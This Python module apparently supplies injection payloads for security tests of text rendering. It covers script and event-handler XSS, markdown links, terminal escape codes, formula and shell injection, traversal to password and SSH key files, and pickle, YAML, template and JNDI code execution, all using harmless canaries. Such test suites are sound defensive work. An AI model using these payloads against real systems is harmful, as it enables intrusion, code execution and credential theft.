"""Texts that try to become something else: script, markup, terminal command, formula, path, code."""
# ruff: noqa: E501  (a payload is not broken for its length)

from __future__ import annotations

RUN = "document.documentElement.setAttribute('data-ran','1')"
_ENTITIES = RUN.replace("'", "&#39;")

_HTML = [
    "<script>{js}</script>", "</script><script>{js}</script>", "<ScRiPt >{js}</sCrIpT>",
    "<script/x>{js}</script>", "<<script>{js}//<</script>", "<script\n>{js}</script\n>",
    "</title><script>{js}</script>", "</style><script>{js}</script>",
    "</textarea><script>{js}</script>", "</noscript><script>{js}</script>",
    "--><script>{js}</script>", "]]><script>{js}</script>", "<!--><script>{js}</script>-->",
    "<![CDATA[<script>{js}</script>]]>", "<!--<script>{js}</script>", "\\u003cscript>{js}</script>",
    "<img src=x onerror=\"{js}\">", "<img src=x onerror={js}>", "<img/src=x/onerror=\"{js}\"/>",
    "<IMG SRC=x OnErRoR=\"{js}\">", "<img src=x onerror\n=\n\"{js}\">", "<img src=`x`onerror={js}>",
    "<img src='x' onerror='{entities}'>", "\"><img src=x onerror=\"{js}\">",
    "'><img src=x onerror=\"{js}\">", "\"/><img src=x onerror=\"{js}\">",
    "<svg onload=\"{js}\">", "<svg/onload={js}>", "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin=\"{js}\" attributeName=x dur=1s></svg>",
    "<svg><set onbegin=\"{js}\" attributeName=x></svg>",
    "<svg><foreignObject><img src=x onerror=\"{js}\"></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x><script>{js}</script></svg>#x\"></svg>",
    "<math><mtext></p><img src=x onerror=\"{js}\"></math>",
    "<math><mi xlink:href=\"data:x,<script>{js}</script>\"></math>",
    "<body onload=\"{js}\">", "<html onmouseover=\"{js}\">", "<body onpageshow=\"{js}\">",
    "<iframe srcdoc=\"<script>parent.{js}</script>\"></iframe>",
    "<iframe src=\"javascript:parent.{js}\"></iframe>", "<iframe onload=\"{js}\"></iframe>",
    "<object data=\"javascript:{js}\"></object>", "<embed src=\"javascript:{js}\">",
    "<details open ontoggle=\"{js}\"><summary>x</summary></details>",
    "<video><source onerror=\"{js}\"></video>", "<video src=x onerror=\"{js}\"></video>",
    "<audio src=x onerror=\"{js}\"></audio>", "<input autofocus onfocus=\"{js}\">",
    "<select autofocus onfocus=\"{js}\"></select>", "<textarea autofocus onfocus=\"{js}\">",
    "<button autofocus onfocus=\"{js}\">x</button>", "<marquee onstart=\"{js}\">x</marquee>",
    "<style>@import 'javascript:{js}'</style>", "<style onload=\"{js}\"></style>",
    "<link rel=stylesheet href=x onerror=\"{js}\">", "<script src=\"data:text/javascript,{js}\"></script>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{js}\">", "<base href=\"javascript:{js}//\">",
    "<template><script>{js}</script></template>", "<x onclick=\"{js}\" contenteditable autofocus>",
    "<a href=\"javascript:{js}\">x</a>", "<a href=\" javascript:{js}\">x</a>",
    "<a href=\"java\tscript:{js}\">x</a>", "<form action=\"javascript:{js}\"><button>x</form>",
    "<isindex type=image src=1 onerror=\"{js}\">", "<table background=\"javascript:{js}\">",
    "<div style=\"background:url(javascript:{js})\">", "<div style=\"width:expression({js})\">",
    "<p id=\"data\">{{}}</p>", "<script type=\"application/json\" id=\"data\">{{\"x\":1}}</script>",
    "\u2028<script>{js}</script>", "<scr\x00ipt>{js}</script>", "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "&lt;script&gt;{js}&lt;/script&gt;", "&#60;script&#62;{js}&#60;/script&#62;",
    "{{{{ {js} }}}}", "{{{{7*7}}}}", "{{% include '/etc/passwd' %}}", "${{7*7}}", "<%= {js} %>", "#{{7*7}}",
    "';{js};//", "\";{js};//", "`;{js};//", "\\';{js};//", "\\\";{js};//", "</script>{js}",
    "constructor", "__proto__", "toString", "');{js};('",
]  # fmt: skip
_MARKDOWN = [
    "[x](javascript:{js})", "![x](javascript:{js})", "[x]: javascript:{js}\n[x]", "<javascript:{js}>",
    "[x](data:text/html,<script>{js}</script>)", "[x](vbscript:x)", "![x](x\"onerror=\"{js})",
    "[a](<javascript:{js}>)", "# <img src=x onerror=\"{js}\">", "> <script>{js}</script>",
    "```\n<script>{js}</script>", "`` ` `` <script>{js}</script>", "a | b\n--|--\n<script>{js}</script> | x",
    "| x |\n|---|", "\n\n<script>{js}</script>\n\n", "    <script>{js}</script>", "***\n---\n===",
    "\\<script>{js}</script>", "\\\\<img src=x onerror=\"{js}\">", "&#x6A;avascript:{js}",
    "https://example.com/<script>{js}</script>", "www.example.com", "x@example.com", "~~x~~ **x** __x__",
    "- [ ] <script>{js}</script>", "1. x\n2. y", "[^1]: <script>{js}</script>", "$$\\href{{javascript:{js}}}{{x}}$$",
    "<details open ontoggle={js}>", "![](https://example.com/x.png)", "<!-- -->", "\u0000`", "``", "`",
]  # fmt: skip
_TERMINAL = [
    "\x1b[2J", "\x1b[31337m", "\x1b]0;title\x07", "\x1b]0;title\x1b\\", "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;https://example.com\x07x\x1b]8;;\x07", "\x1b[1;1H", "\x1b[?1049h", "\x1b[6n", "\x1bP+q544e\x1b\\",
    "\x1b[?2004h", "\x1bc", "\x1b(0", "\x1b#8", "\x9b2J", "\x9d0;x\x9c", "\x90x\x9c", "\x85", "\x84", "\x8d",
    "\x07", "\x08\x08\x08", "\r overwritten", "\x0b", "\x0c", "\x0e", "\x0f", "\x7f", "\x00", "\x1a", "\x04",
    "\u202e gnp.exe", "\u2066x\u2069", "\u200b", "\u200f", "\ufeff", "\ufff9x\ufffb", "\u2028", "\u2029",
    "\U000e0041\U000e0042", "[bold red]x[/]", "[link=https://example.com]x[/link]", "[/]", "[[", ":bomb:",
    "[@click=app.quit]x[/]", "\x1b[38;2;255;255;255;48;2;255;255;255m", "\x1b[8m", "\x1b[1000000b", "\x1b[20t",
    "\x1b[21t", "\x1b]4;1;?\x07", "\x1b]1337;File=inline=1:AAAA\x07", "\x1b_Gi=1;AAAA\x1b\\", "\x1b^x\x1b\\",
    "a\u0300" * 60, "\ud83d".encode("utf-16", "surrogatepass").decode("utf-16", "replace"), "\r\n\r\n", "\t\t",
]  # fmt: skip
_FORMULAS = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://example.com\",\"x\")", "+1+1", "-1+1", "@SUM(1)", "\t=1+1",
    "=IMPORTXML(\"https://example.com\")", "%s%s%s%n", "%(x)s", "{0.__class__}", "{x!r}", "$(touch /tmp/x)",
    "`touch /tmp/x`", "; touch /tmp/x", "| touch /tmp/x", "$\\frac{1}{2", "$\\badcommand$", "$x^$", "_{", "\\",
]  # fmt: skip
_PATHS = [
    "../../../../etc/passwd", "/etc/passwd", "..\\..\\x", "file:///etc/passwd", "~/.ssh/id_rsa", "/dev/zero",
    "/proc/self/environ", "CON", "-rf", "--help", "a\nb", "x.png\" onerror=\"{js}", "%2e%2e%2fx", "//example.com/x",
    "C:\\x", ".", "..", "x/../../y", "\u2025/x", "x" * 5000,
]  # fmt: skip
_CODE = [
    "__import__('os').system('touch {canary}')", "!!python/object/apply:os.system ['touch {canary}']",
    "cos\nsystem\n(S'touch {canary}'\ntR.", "{{{{ cycler.__init__.__globals__.os.system('touch {canary}') }}}}",
    "${{jndi:ldap://example.com/x}}", "eval(compile('1','','exec'))", "torch.load", "auto_map",
]  # fmt: skip


def payloads(canary: str) -> list[str]:
    """All of them; those that may run code would make the file `canary`."""
    templates = [*_HTML, *_MARKDOWN, *_PATHS, *_CODE]
    fill = {"js": RUN, "entities": _ENTITIES, "canary": canary}
    return [_filled(template, fill) for template in templates] + _TERMINAL + _FORMULAS


def _filled(template: str, fill: dict[str, str]) -> str:
    for name, value in fill.items():
        template = template.replace("{" + name + "}", value)
    return template.replace("{{", "{").replace("}}", "}")
